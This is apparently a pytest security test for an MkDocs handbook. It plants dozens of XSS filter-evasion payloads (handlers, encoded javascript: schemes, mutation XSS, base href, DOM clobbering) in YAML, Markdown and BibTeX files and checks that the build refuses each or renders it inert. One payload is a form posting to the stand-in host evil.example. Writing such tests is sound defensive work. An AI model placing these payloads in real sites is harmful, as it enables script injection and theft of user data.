"""A hostile contributor's corpus: every case is refused at ``file:line`` or comes out inert.

The cases cover the OWASP XSS filter-evasion families (schemes and encodings, event handlers,
SVG and MathML, mutation XSS, meta refresh, base, forms, object/embed, CSS) and every entry point
(card.yml fields, card text, data files, BibTeX fields, front matter). They all go into one copy
of the project, built once; the built HTML is then parsed for anything active.
"""

from __future__ import annotations

import re
import shutil
from dataclasses import dataclass
from pathlib import Path

import pytest

from helpers import ROOT, copy_project, mkdocs_build
from handbook import safety

#: one worker builds this module's shared site for all its tests (pytest -n, --dist loadgroup)
pytestmark = pytest.mark.xdist_group("hostile")


@dataclass(frozen=True)
class Case:
    id: int
    family: str
    file: str  # relative to the project
    refused: bool  # True: a finding at file:line is required (and the output is inert anyway)
    marker: str = ""  # what identifies the case in the output (default: alert(<id>))
    locate: str = ""  # the text on the line the finding must name (default: the marker)

    @property
    def mark(self) -> str:
        return self.marker or f"alert({self.id})"


CARD = "docs/cards/pori-systeeminen-tiimimalli"
BAD_CARD = "docs/cards/eksote-systeeminen-lastensuojelu"
SUMMARY = "docs/research/johtaminen"

#: (case, where it goes: a function of the project that writes it)
CASES: list[Case] = []


def case(id: int, family: str, file: str, refused: bool, marker: str = "", locate: str = "") -> Case:
    c = Case(id, family, file, refused, marker, locate)
    CASES.append(c)
    return c


# card.yml fields: escaped where they enter HTML (and refused as markup in a text field)
case(1, "script element", f"{CARD}/card.yml", True)
case(2, "attribute break-out", f"{CARD}/card.yml", True)
case(3, "svg onload", f"{CARD}/card.yml", True)
case(4, "iframe javascript", f"{CARD}/card.yml", True)
case(5, "title break-out", f"{CARD}/card.yml", True)
case(6, "mutation XSS (math/style)", f"{CARD}/card.yml", True)
case(7, "contact.url scheme", f"{BAD_CARD}/card.yml", True)
# card text (Markdown)
case(10, "javascript: link", f"{CARD}/index.fi.md", True)
case(11, "mixed-case scheme", f"{CARD}/index.fi.md", True)
case(12, "entity-encoded scheme in raw HTML", f"{CARD}/index.fi.md", True)
case(13, "img onerror", f"{CARD}/index.fi.md", True)
case(14, "svg script", f"{CARD}/index.fi.md", True)
case(15, "object data:", f"{CARD}/index.fi.md", True)
case(16, "embed", f"{CARD}/index.fi.md", True)
case(17, "form action", f"{CARD}/index.fi.md", True, marker="steal?17")
case(18, "meta refresh", f"{CARD}/index.fi.md", True)
case(19, "base href", f"{CARD}/index.fi.md", True, marker="evil.example/19/")
case(20, "CSS url(javascript:)", f"{CARD}/index.fi.md", True)
case(21, "mutation XSS (noscript)", f"{CARD}/index.fi.md", True)
case(22, "data: image", f"{CARD}/index.en.md", True, marker="data:image/svg+xml")
case(23, "vbscript: link", f"{CARD}/index.en.md", True, marker="msgbox(23)")
case(24, "details ontoggle", f"{CARD}/index.en.md", True)
case(25, "tab inside the scheme", f"{CARD}/index.en.md", True)
case(26, "reference-style link definition", f"{CARD}/index.en.md", True)
case(27, "MathML href", f"{CARD}/index.en.md", True)
case(28, "percent-encoded scheme", f"{CARD}/index.en.md", True)
case(29, "summary into the meta description", f"{CARD}/index.fi.md", True)
case(9, "DOM clobbering of the theme's config", f"{CARD}/index.en.md", True, marker="clobber-9")
# data files
case(30, "glossary definition img onerror", "docs/data/glossary.yml", True)
case(31, "glossary term script", "docs/data/glossary.yml", True)
case(32, "key figure measures script", "docs/data/facts.yml", True)
case(33, "key figure unit svg", "docs/data/facts.yml", True)
case(34, "key figure value script", "docs/data/facts.yml", True)
case(35, "key figure locator into a citation", "docs/data/facts.yml", True)
case(36, "key figure refers_to img", "docs/data/facts.yml", True)
case(37, "glossary definition.en into the pop-up", "docs/data/glossary.yml", True)
case(38, "glossary source into a citation", "docs/data/glossary.yml", True)
# BibTeX
case(40, "title script", "bibliography/sources.bib", False)
case(41, "url javascript:", "bibliography/sources.bib", True, locate="url = {javascript:alert(41)}")
case(42, "howpublished attribute break-out", "bibliography/sources.bib", False)
case(43, "url attribute break-out", "bibliography/sources.bib", False)
case(44, "author into citation labels", "bibliography/works-cited.bib", False)
# front matter
case(50, "title break-out", f"{SUMMARY}.fi.md", True)
case(51, "description break-out", f"{SUMMARY}.fi.md", True)


# every field of a card.yml: the free-text fields of one card (escaped, and refused as markup),
# each other field in a copy of the card of its own (refused by the schema or the citation check)
TEXT_CARD = "docs/cards/mantsala-suhdeperustainen-lastensuojelu"
TEXT_FIELDS = ["name.fi", "name.en", "organisations", "municipalities", "research_partners", "contact.organisation",
               "contact.role.fi", "contact.role.en"]
OTHER_FIELDS = ["id", "region", "status", "status_as_of", "recognitions", "target_groups", "approaches", "sources",
                "reviewed", "contact.url"]
PAYLOADS = ["<script>alert({n})</script>", '\\"><img src=x onerror=alert({n})>']  # \" : a quote inside YAML's "…"
for index, name in enumerate(TEXT_FIELDS + OTHER_FIELDS):
    where = TEXT_CARD if name in TEXT_FIELDS else f"docs/cards/hostile-{name.replace('.', '-').replace('_', '-')}"
    case(100 + index, f"card.yml {name}", f"{where}/card.yml", True)


def _field_line(lines: list[str], name: str) -> int:
    """The line holding the value of a (dotted) field in a card.yml like the handbook's own."""
    parts, at, indent = name.split("."), 0, 0
    for depth, part in enumerate(parts):
        while not lines[at].startswith(" " * indent + part + ":"):
            at += 1
        if depth < len(parts) - 1:
            indent += 2
            at += 1
    if lines[at].rstrip().endswith(":"):  # a block list: its first item
        at += 1
    return at


def _hostile_item(item: str, payload: str) -> str:
    """A name (a list item, or ``contact.organisation``) with ``payload`` added: to each language's name when it
    is written ``{fi: "…", en: "…"}``."""
    if item.startswith("{"):
        return re.sub(r'((?:fi|en): "[^"]*)"', lambda m: f'{m[1]} {payload}"', item)
    return f'"{item} {payload}"'


def _poison(lines: list[str], name: str, n: int) -> None:
    at = _field_line(lines, name)
    payload = PAYLOADS[n % 2].format(n=n)
    key, sep, value = lines[at].partition(": ") if not lines[at].lstrip().startswith("- ") else ("", "", "")
    if not sep:  # "  - item"
        head, item = lines[at].split("- ", 1)
        lines[at] = f"{head}- {_hostile_item(item, payload)}"
    elif value.startswith("["):
        lines[at] = f'{key}: ["{value.strip("[]").split(",")[0].strip()} {payload}"]'
    else:  # a name written {fi: "…", en: "…"} (contact.organisation) gets it in each language's name
        lines[at] = f"{key}: {_hostile_item(value, payload)}"


def plant_every_field(project: Path) -> None:
    source = project / TEXT_CARD
    original = (source / "card.yml").read_text(encoding="utf-8")
    for index, name in enumerate(OTHER_FIELDS, start=100 + len(TEXT_FIELDS)):
        slug = f"hostile-{name.replace('.', '-').replace('_', '-')}"
        folder = project / "docs" / "cards" / slug
        shutil.copytree(source, folder)
        lines = original.replace(f"id: {source.name}", f"id: {slug}").split("\n")
        _poison(lines, name, index)
        (folder / "card.yml").write_text("\n".join(lines), encoding="utf-8")
    lines = original.split("\n")
    for index, name in enumerate(TEXT_FIELDS, start=100):
        _poison(lines, name, index)
    (source / "card.yml").write_text("\n".join(lines), encoding="utf-8")


def _sub(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _append_to_first_paragraph_section(path: Path, heading: str, lines: list[str]) -> None:
    _sub(path, f"## {heading}\n", f"## {heading}\n\n" + "\n\n".join(lines) + "\n")


def plant(project: Path) -> None:
    """Write every case into the copy of the project."""
    plant_every_field(project)
    yml = project / CARD / "card.yml"
    text = yml.read_text(encoding="utf-8")
    text = re.sub(r"(?m)^(  fi: )(.+)$", r"\1\2 <script>alert(1)</script>", text, count=1)  # name.fi
    text = re.sub(r"(?m)^(  en: )(.+)$", r'\1"\2 \\"><img src=x onerror=alert(2)>"', text, count=1)  # name.en
    text = re.sub(r"(?m)^(organisations:\n  - )(.+)$", lambda m: m[1] + _hostile_item(m[2], "<svg onload=alert(3)>"),
                  text, count=1)
    text = re.sub(r"(?m)^(    fi: )(.+)$", r'\1"\2 <iframe src=javascript:alert(4)></iframe>"', text, count=1)  # role
    text = re.sub(r"(?m)^(  organisation: )(.+)$", lambda m: m[1] + _hostile_item(m[2], "</title><script>alert(5)</script>"),
                  text, count=1)
    text = re.sub(r"(?m)^municipalities:.*$",
                  'municipalities: ["Pori <math><mtext><table><mglyph><style><img src=x onerror=alert(6)>"]',
                  text, count=1)
    yml.write_text(text, encoding="utf-8")
    _sub(project / BAD_CARD / "card.yml", "url: https://www.eksote.fi/", "url: javascript:alert(7)//https://x")

    fi = project / CARD / "index.fi.md"
    text = fi.read_text(encoding="utf-8")
    first = text.split("\n\n", 1)[0] if not text.startswith("---") else text.split("---", 2)[2].lstrip().split("\n\n")[0]
    _sub(fi, first, first + ' "><script>alert(29)</script>')
    _append_to_first_paragraph_section(fi, "Ratkaisu", [
        "Katso [ohje](javascript:alert(10)).",
        "Katso [ohje](JaVaScRiPt:alert(11)).",
        '<a href="&#106;avascript:alert(12)">ohje</a>',
        "<img src=x onerror=alert(13) alt=kuva>",
        "<svg><script>alert(14)</script></svg>",
        '<object data="data:text/html,<script>alert(15)</script>"></object>',
        '<embed src="javascript:alert(16)">',
        '<form action="https://evil.example/steal?17"><input name="p17"><button>lähetä</button></form>',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(18)">',
        '<base href="https://evil.example/19/">',
        '<div style="background:url(javascript:alert(20))">tyyli</div>',
        '<noscript><p title="</noscript><img src=x onerror=alert(21)>"></p></noscript>',
    ])
    en = project / CARD / "index.en.md"
    _append_to_first_paragraph_section(en, "Solution", [
        "![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMjIpPg==)",
        "See [this](vbscript:msgbox(23)).",
        "<details open ontoggle=alert(24)><summary>x</summary>y</details>",
        '<a href=" &#x09;java\tscript:alert(25)">this</a>',
        "See [the guide][evil].\n\n[evil]: javascript:alert(26)",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(27)">x</maction></math>',
        "See [this](java%73cript:alert(28)).",
        '<div id="__config">{"base": "https://evil.example/clobber-9/"}</div>',
    ])

    glossary = project / "docs" / "data" / "glossary.yml"
    text = glossary.read_text(encoding="utf-8")
    text = re.sub(r"(?m)^(      fi: )(.+)$", r'\1"\2 <img src=x onerror=alert(30)>"', text, count=1)
    text = re.sub(r"(?m)^(      en: )(.+)$", r'\1"\2 <img src=x onerror=alert(37)>"', text, count=1)
    text = re.sub(r"(?m)^(  - id: [a-z-]+)$", r'\1\n    source: "x] <svg onload=alert(38)> [@y"', text, count=1)
    text = re.sub(r"(?m)^(    term: \{fi: )([^,]+), en: ([^}]+)\}",
                  r'\1\2, en: "\3 <script>alert(31)</script>"}', text, count=1)
    glossary.write_text(text, encoding="utf-8")
    facts = project / "docs" / "data" / "facts.yml"
    text = facts.read_text(encoding="utf-8")
    text = re.sub(r"(?m)^(      fi: )(.+)$", r'\1"\2 <script>alert(32)</script>"', text, count=1)
    text = re.sub(r"(?m)^(    unit: \{fi: )([^,]+),", r'\1"\2 <svg/onload=alert(33)>",', text, count=1)
    text = text.replace('value: "140"', 'value: "140 <script>alert(34)</script>"', 1)
    text = text.replace("en: last part of the webinar summary}", 'en: "last part <b onmouseover=alert(35)>x</b>"}', 1)
    text = text.replace("en: spring 2020}", 'en: "spring 2020 <img src=x onerror=alert(36)>"}', 1)
    facts.write_text(text, encoding="utf-8")

    bib_dir = project / "bibliography"
    if bib_dir.is_symlink():
        bib_dir.unlink()
    else:
        shutil.rmtree(bib_dir)
    shutil.copytree(ROOT / "bibliography", bib_dir)
    bib = bib_dir / "sources.bib"
    _sub(bib, "title        = {Mitä lastensuojelun asiakkaat toivovat?},",
         "title        = {Mitä lastensuojelun asiakkaat toivovat? <script>alert(40)</script>},")
    _sub(bib, "  howpublished = {Innokylä, hyvän käytännön kortti},",
         '  howpublished = {Innokylä "><svg onload=alert(42)>},\n  url = {javascript:alert(41)},')
    works = bib_dir / "works-cited.bib"
    _sub(works, "  editor       = {Rousu, Sirkka},", "  editor       = {Rousu<img src=x onerror=alert(44)>, Sirkka},")
    _sub(bib, "  howpublished = {Uutinen},",
         '  howpublished = {Uutinen},\n  url = {https://example.org/" onmouseover="alert(43)},')

    summary = project / f"{SUMMARY}.fi.md"
    text = summary.read_text(encoding="utf-8")
    text = re.sub(r"(?m)^description: (.*)$", lambda m: "title: \"</title><script>alert(50)</script>\"\n"
                  f"description: '\"><script>alert(51)</script> {m.group(1)}'", text, count=1)
    summary.write_text(text, encoding="utf-8")


def _line(project: Path, file: str, marker: str) -> int:
    for number, line in enumerate((project / file).read_text(encoding="utf-8").splitlines(), start=1):
        if marker in line:
            return number
    raise AssertionError(f"{marker} not in {file}")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    project = copy_project(tmp_path_factory.mktemp("hostile") / "project")
    plant(project)
    out = project.parent / "site"
    result = mkdocs_build(project, out)
    active: dict[str, list[str]] = {}
    for page in sorted(out.rglob("*.html")):
        found = safety.active_content(page.read_text(encoding="utf-8"), OUR_SCRIPTS)
        if found:
            active[page.relative_to(out).as_posix()] = found
    return project, result, active


#: the scripts the theme and the handbook load (files under assets/), and Material's inline ones
OUR_SCRIPTS = frozenset()


def _ours(found: str) -> bool:
    return bool(re.match(r"<script src='[./]*assets/", found)) or not re.search(r"alert|msgbox", found)


def test_the_hostile_build_fails_strict(hostile):
    _, result, _ = hostile
    assert result.returncode != 0
    assert "Traceback" not in result.stdout + result.stderr


@pytest.mark.parametrize("c", CASES, ids=[f"{c.id}-{c.family}" for c in CASES])
def test_each_case_is_refused_or_inert(hostile, c):
    project, result, active = hostile
    marker = c.mark
    hits = {page: [f for f in found if marker in f] for page, found in active.items()}
    hits = {page: found for page, found in hits.items() if found}
    assert not hits, f"case {c.id} ({c.family}) is active in the built site: {hits}"
    if c.id == 9:
        page = (project.parent / "site" / "en" / "cards" / "pori-systeeminen-tiimimalli" / "index.html")
        assert page.read_text(encoding="utf-8").count('id="__config"') == 1  # the theme's own only
    if c.refused:
        line = _line(project, c.file, c.locate or marker)
        output = result.stdout + result.stderr
        assert f"{c.file}:{line}: " in output, f"case {c.id} ({c.family}) not refused at {c.file}:{line}:\n{output}"


def test_nothing_active_anywhere_in_the_hostile_site(hostile):
    """Besides the planted markers: no handler, refused scheme or foreign script on any page."""
    _, _, active = hostile
    assert {page: [f for f in found if not _ours(f)] for page, found in active.items()
            if any(not _ours(f) for f in found)} == {}


def test_at_least_25_cases_across_every_entry_point():
    assert len(CASES) >= 25
    kinds = {c.file.split("/")[-1].split(".")[-1] for c in CASES}
    assert {"yml", "md", "bib"} <= kinds
